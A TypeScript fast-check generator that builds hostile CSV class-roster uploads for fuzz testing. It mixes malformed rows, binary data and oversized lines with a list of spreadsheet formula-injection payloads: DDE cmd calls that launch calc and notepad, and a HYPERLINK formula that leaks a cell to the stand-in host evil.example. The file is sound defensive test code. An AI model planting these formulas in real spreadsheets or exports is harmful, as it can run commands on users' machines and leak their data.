import fc from 'fast-check';
import { nastyString } from './nasty.js';

/** Cells a spreadsheet would run as formulas (OWASP CSV injection), as a roster's names might carry them. */
export const FORMULA_NAMES = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  '+1+cmd|\' /C calc\'!A0',
  '-2+3+cmd|\' /C notepad\'!A0',
  '@SUM(1+9)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  '=DDE("cmd";"/C calc";"!A0")',
];

/**
 * Class lists a hostile or careless teacher might upload: formula names (each with a grade and
 * letter, so some are accepted and stored), huge lines, binary, broken quotes, odd separators,
 * a BOM in odd places, and rows of random strings.
 */
export function hostileRoster(): fc.Arbitrary<Buffer> {
  const separator = fc.constantFrom(',', ';', '\t', '|');
  const formulaRow = fc.tuple(fc.constantFrom(...FORMULA_NAMES), separator).map(([name, sep]) => `"${name.replace(/"/g, '""')}"${sep}7${sep}А`);
  const nastyRow = fc.tuple(fc.array(nastyString().map((s) => s.slice(0, 300)), { maxLength: 6 }), separator).map(([cells, sep]) => cells.join(sep));
  const row = fc.oneof({ weight: 3, arbitrary: formulaRow }, { weight: 2, arbitrary: nastyRow }, { weight: 1, arbitrary: fc.constantFrom('name,grade,letter', '"broken,7,А', 'Олена Петренко;7;Б', '\uFEFFname;grade;letter') });
  const text = fc
    .tuple(fc.array(row, { minLength: 0, maxLength: 12 }), fc.constantFrom('\n', '\r\n', '\r'), fc.boolean())
    .map(([rows, eol, bom]) => Buffer.from(`${bom ? '\uFEFF' : ''}${rows.join(eol)}`, 'utf8'));
  return fc.oneof(
    { weight: 6, arbitrary: text },
    // One line far past any cell limit (but under the file limit), and one past the file limit.
    { weight: 1, arbitrary: fc.constantFrom(Buffer.from(`${'Я'.repeat(60_000)},7,А\n`), Buffer.from(`${'x'.repeat(300_000)},7,А\n`)) },
    { weight: 1, arbitrary: fc.uint8Array({ minLength: 1, maxLength: 2000 }).map((a) => Buffer.from(a)) },
    { weight: 1, arbitrary: fc.constant(Buffer.concat([Buffer.from('Олена,7,А\n'), Buffer.from([0, 0xff, 0xfe, 0xc3, 0x28])])) },
  );
}
